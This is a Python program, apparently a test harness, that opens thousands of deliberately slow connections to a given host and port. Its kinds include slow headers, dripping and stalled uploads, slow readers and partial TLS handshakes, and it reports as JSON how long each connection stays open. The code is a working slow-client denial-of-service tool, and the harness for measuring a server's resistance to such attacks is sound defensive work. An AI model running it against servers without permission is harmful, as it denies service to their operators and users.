"""Clients by the thousand that are slow on purpose, in one process; a program, for Linux.

    python attackers.py HOST PORT SECONDS KIND=COUNT...

Each attacker has one connection at a time, and comes back when that is cut. The report, JSON on standard output, says of each connection
for how long after its client's turn had begun it was open for certain, and when it was seen to be cut: it was cut between two looks
at it, so nothing that is said depends on how late this process was.
"""

from __future__ import annotations

import contextlib
import heapq
import json
import resource
import select
import socket
import ssl
import sys
import time
from collections.abc import Callable
from dataclasses import asdict, dataclass

REST_SECONDS = 0.2
"""After which an attacker comes back."""

LOOK_SECONDS = 0.05
"""Between two looks at all connections, if this process gets the processor."""

RECEIVE_BUFFER = 2048
"""Bytes of a response that the system takes for a client that does not. Linux makes twice as many of it."""


@dataclass(frozen=True)
class Kind:
    """Sends *opening* at once; then, *every* so many seconds, sends *drip*, or takes *take* bytes of the response.

    It is the client's turn from the opening on, or from the response to that; if it *stalls_after* so many times,
    from the last of them on. A handshake is its turn as a whole. Connections of one attacker begin *period*
    seconds apart or more. What does not begin like *answer* cuts the connection.
    """

    opening: bytes = b""
    answer: bytes = b"HTTP/1.1 200"
    drip: bytes = b""
    take: int = 0
    every: float = 1.0
    stalls_after: int | None = None
    period: float = 1.0


_UPLOAD = b"POST /upload HTTP/1.1\r\nHost: attacker\r\nContent-Length: 1000000\r\n\r\n"
_LARGE = b"GET /large HTTP/1.1\r\nHost: attacker\r\n\r\n"


def _hello() -> bytes:
    """The first message of a TLS handshake."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname="localhost").do_handshake()
    return outgoing.read()


_HELLO = _hello()
_HANDSHAKE = b"\x16\x03"
"""What a server's answer begins with."""

_READER_PERIOD = 10.0
"""About as long as a slow reader may stay. Readers that are reset before, to make room for others, and come back at once, are a flood of
requests for 10 MB each: what such a flood does is a question of capacity, whether its clients are slow or not."""

KINDS = {
    "slow-head": Kind(b"GET / HTTP/1.1\r\nHost: attacker\r\nX-Slow: ", drip=b"a"),
    "dripping-body": Kind(_UPLOAD, drip=b"a"),
    "stalled-body": Kind(_UPLOAD, drip=b"a" * 2048, every=0.5, stalls_after=4),
    "dripping-reader": Kind(_LARGE, take=16, period=_READER_PERIOD),
    "stalled-reader": Kind(_LARGE, take=4096, every=0.5, stalls_after=4, period=_READER_PERIOD),
    "silent": Kind(),
    "idle": Kind(b"GET / HTTP/1.1\r\nHost: attacker\r\n\r\n"),
    # Against TLS. The last one costs the server a signature each time.
    "silent-handshake": Kind(answer=_HANDSHAKE),
    "half-hello": Kind(_HELLO[:100], answer=_HANDSHAKE),
    "dripping-hello": Kind(_HELLO[:6], answer=_HANDSHAKE, drip=b"\0"),
    "half-handshake": Kind(_HELLO, answer=_HANDSHAKE),
}


@dataclass(frozen=True)
class Connection:
    """One connection of the attacker with that number: open for *open_for* seconds at least and *cut_by* at most.

    *how* it was cut is a status, ``closed``, ``reset``, or another error; ``open`` if it was not.
    """

    kind: str
    attacker: int
    how: str
    open_for: float
    cut_by: float


@dataclass(frozen=True)
class Report:
    """*lag* is the longest time in seconds between two looks at the connections."""

    connections: list[Connection]
    lag: float

    @classmethod
    def parse(cls, text: str) -> Report:
        values = json.loads(text)
        return cls([Connection(**connection) for connection in values["connections"]], values["lag"])


class Attacker:
    """Called by the loop of *attack* only; *now* is when that has looked at its connections."""

    def __init__(self, attack: Attack, number: int, name: str) -> None:
        self.kind = KINDS[name]
        self._attack = attack
        self._number = number
        self._name = name
        self._socket: socket.socket | None = None
        self._opened = self._turn = 0.0
        self._answered = False
        self._times = 0

    def open(self, now: float) -> None:
        self._socket = socket.socket()
        self._socket.setblocking(False)
        if self.kind.take:
            self._socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, RECEIVE_BUFFER)
        self._opened = self._turn = now
        self._answered = False
        self._times = 0
        self._socket.connect_ex(self._attack.address)
        self._attack.watch(self._socket, self, select.EPOLLOUT)

    def handle(self, events: int, now: float) -> None:
        if events == select.EPOLLOUT:
            self._connected(now)
        else:
            self._receive(65536, now)

    def _connected(self, now: float) -> None:
        assert self._socket is not None
        self._socket.send(self.kind.opening)
        # What a slow reader leaves would wake the loop again and again. A reset does in any case.
        self._attack.watch(self._socket, self, 0 if self.kind.take else select.EPOLLIN)
        if self.kind.opening:
            self._turn = now
        if self.kind.drip or self.kind.take:
            opened = self._opened
            self._attack.at(now + self.kind.every, lambda now: self._go_on(opened, now))

    def _go_on(self, opened: float, now: float) -> None:
        """Do a little, if the connection is still the one that was *opened* then."""
        if self._socket is None or opened != self._opened:
            return
        if self.kind.stalls_after is not None:
            if self._times == self.kind.stalls_after:
                return
            self._times += 1
            self._turn = now
        self._attack.at(now + self.kind.every, lambda now: self._go_on(opened, now))
        if self.kind.take:
            self._receive(self.kind.take, now)
            return
        # If this process was late, the server's answer and its end have both come: then the answer counts.
        self._receive(65536, now)
        if self._socket is None or opened != self._opened:
            return
        try:
            self._socket.send(self.kind.drip)
        except OSError as error:
            self._cut(error, now)

    def _receive(self, size: int, now: float) -> None:
        assert self._socket is not None
        try:
            data = self._socket.recv(size)
        except BlockingIOError:
            return
        except OSError as error:
            self._cut(error, now)
            return
        if not data:
            self._cut("closed", now)
        elif not self._answered:
            self._answered = True
            if not data.startswith(self.kind.answer):
                self._cut(data[9:12].decode("latin-1"), now)
            elif not self.kind.take and self.kind.answer != _HANDSHAKE:
                self._turn = now

    def _cut(self, how: str | OSError, now: float) -> None:
        if isinstance(how, OSError):
            how = "reset" if isinstance(how, ConnectionResetError | BrokenPipeError) else repr(how)
        self.close(how, now)
        self._attack.at(max(now + REST_SECONDS, self._opened + self.kind.period), self.open)

    def close(self, how: str, now: float) -> None:
        """Report and close the connection, if there is one."""
        if self._socket is not None:
            if self.kind.take and self.kind.stalls_after is not None:
                self._turn = max(self._turn, now - last_received(self._socket))
            open_for = max(0.0, self._attack.looked_at - self._turn)
            self._attack.connections.append(Connection(self._name, self._number, how, open_for, now - self._turn))
            self._attack.forget(self._socket)
            self._socket.close()
            self._socket = None


def last_received(sock: socket.socket) -> float:
    """Return the seconds since the system took data for *sock*, which it may do after the client's last call.

    This is tcpi_last_data_recv in linux/tcp.h: milliseconds, behind 8 bytes and 11 numbers.
    """
    info = sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 56)
    return int.from_bytes(info[52:56], sys.byteorder) / 1000


class Attack:
    """The loop, and what its attackers report."""

    def __init__(self, address: tuple[str, int], counts: dict[str, int]) -> None:
        self.address = address
        self.connections: list[Connection] = []
        self.looked_at = time.monotonic()
        """When all connections were looked at, and nothing was seen of those of which something is seen now."""
        self._epoll = select.epoll()
        self._watched: dict[int, Attacker] = {}
        self._due: list[tuple[float, int, Callable[[float], None]]] = []
        self._scheduled = 0
        self._attackers: list[Attacker] = []
        for name, count in counts.items():
            for index in range(count):
                attacker = Attacker(self, len(self._attackers), name)
                self._attackers.append(attacker)
                # Not all at once, so that they do not drip at once either.
                self.at(self.looked_at + attacker.kind.period * index / count, attacker.open)

    def run(self, seconds: float) -> Report:
        now = time.monotonic()
        end = now + seconds
        lag = 0.0
        while now < end:
            looks_at = time.monotonic()
            lag = max(lag, looks_at - self.looked_at)
            pause = min(max(self._due[0][0] - looks_at, 0.0), LOOK_SECONDS) if self._due else LOOK_SECONDS
            events = self._epoll.poll(pause, len(self._attackers))
            now = time.monotonic()
            for descriptor, flags in events:
                self._watched[descriptor].handle(flags, now)
            self.looked_at = looks_at
            while self._due and self._due[0][0] <= now:
                heapq.heappop(self._due)[2](now)
        for attacker in self._attackers:
            attacker.close("open", now)
        self._epoll.close()
        return Report(self.connections, lag)

    def at(self, when: float, function: Callable[[float], None]) -> None:
        self._scheduled += 1
        heapq.heappush(self._due, (when, self._scheduled, function))

    def watch(self, sock: socket.socket, attacker: Attacker, events: int) -> None:
        if sock.fileno() in self._watched:
            self._epoll.modify(sock, events)
        else:
            self._epoll.register(sock, events)
        self._watched[sock.fileno()] = attacker

    def forget(self, sock: socket.socket) -> None:
        del self._watched[sock.fileno()]


def main(host: str, port: str, seconds: str, *kinds: str) -> None:
    counts = {name: int(count) for name, _, count in (kind.partition("=") for kind in kinds)}
    descriptors = sum(counts.values()) + 64
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft != resource.RLIM_INFINITY and soft < descriptors:
        resource.setrlimit(resource.RLIMIT_NOFILE, (descriptors, hard))
    print(json.dumps(asdict(Attack((host, int(port)), counts).run(float(seconds)))))


if __name__ == "__main__":
    main(*sys.argv[1:])
